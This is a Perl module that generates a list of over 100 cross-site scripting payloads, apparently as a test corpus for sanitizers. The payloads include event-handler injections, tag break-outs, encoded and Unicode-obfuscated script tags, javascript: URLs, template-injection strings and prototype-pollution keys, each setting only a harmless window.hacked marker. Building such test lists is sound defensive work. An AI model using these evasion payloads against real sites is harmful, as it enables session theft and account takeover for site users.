package Xss;

# Texts that would run something where a page took them for markup.  Each sets
# window.hacked, or tries to.
#
#     Xss::payloads()          # more than 100 of them

use strict;
use warnings;


sub payloads {
    my $run = 'window.hacked=1';
    my @handlers = qw/ onload onerror onclick onfocus onmouseover onanimationend
                       onanimationstart ontoggle onpointerenter onbegin
                       oncontentvisibilityautostatechange onscroll /;
    my @tags = ('img src=x', 'svg', 'body', 'video src=x', 'audio src=x',
                'details open', 'input autofocus', 'iframe src=x');
    my @all;

    for my $tag (@tags) {
        push @all, "<$tag $_=$run>" for @handlers;
    }

    push @all, (
        "<script>$run</script>", "<SCRIPT>$run</SCRIPT>",
        "<script/x>$run</script>", "<scr<script>ipt>$run</scr</script>ipt>",
        "<script\n>$run</script\n>", "<script src=data:,$run></script>",
        "</script><script>$run</script>", "</textarea><script>$run</script>",
        "</title><script>$run</script>", "</style><script>$run</script>",
        "--><script>$run</script>", "]]><script>$run</script>",
        "'><script>$run</script>", "\"><script>$run</script>",
        "`><script>$run</script>", "\\\"><script>$run</script>",
        "\\u003cscript\\u003e$run\\u003c/script\\u003e",
        "\\x3cscript\\x3e$run\\x3c/script\\x3e",
        "&lt;script&gt;$run&lt;/script&gt;",
        "&#60;script&#62;$run&#60;/script&#62;",
        "&#x3c;img src=x onerror=$run&#x3e;",
        "&amp;lt;img src=x onerror=$run&amp;gt;",
        "%3Cscript%3E$run%3C/script%3E",
        "<a href=javascript:$run>x</a>", "<a href=\"java\tscript:$run\">x</a>",
        "<a href=\"&#106;avascript:$run\">x</a>",
        "<iframe srcdoc=\"<script>parent.hacked=1</script>\"></iframe>",
        "<iframe src=javascript:parent.hacked=1></iframe>",
        "<object data=javascript:$run></object>",
        "<embed src=javascript:$run>",
        "<form action=javascript:$run><button>x</button></form>",
        "<base href=javascript:$run//>", "<meta http-equiv=refresh"
        . " content=\"0;url=javascript:$run\">",
        "<link rel=stylesheet href=data:text/css,*{x:expression($run)}>",
        "<style>\@import'javascript:$run';</style>",
        "<style>*{background:url(javascript:$run)}</style>",
        "<div style=\"width:expression($run)\">",
        "<math><mi xlink:href=javascript:$run>x</mi></math>",
        "<svg><script>$run</script></svg>",
        "<svg><animate onbegin=$run attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:$run><text>x</text></a></svg>",
        "<svg><use href=data:image/svg+xml,<svg id='x' onload=$run/>#x>",
        "<template><img src=x onerror=$run></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=$run>\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=$run>",
        "<select><style></select><img src=x onerror=$run></style>",
        "<x onclick=$run autofocus tabindex=1>x</x>",
        "<img src=x onerror=&#119;indow.hacked&#61;1>",
        "<img src=`x` onerror=$run>", "<img/src=x/onerror=$run>",
        "<img src=x\nonerror=$run>", "<img src=x onerror\t=\t$run>",
        "<<img src=x onerror=$run>>", "<img src=x onerror=$run//",
        "\x{ff1c}script\x{ff1e}$run\x{ff1c}/script\x{ff1e}",
        "\x{2028}<script>$run</script>\x{2029}",
        "\x{202e}<script>$run</script>", "<\x{feff}script>$run</script>",
        "javascript:$run", "data:text/html,<script>$run</script>",
        "{{constructor.constructor('${run}')()}}", "\${$run}", "#{$run}",
        "<%= $run \%>", "{% $run \%}", "[[$run]]", "';$run;//", "\";$run;//",
        "\\';$run;//", "`;$run;//", ");$run;//", "}}${run}\{{",
        "__proto__", "constructor", "{\"__proto__\":{\"hacked\":1}}",
    );

    return @all;
}


1;
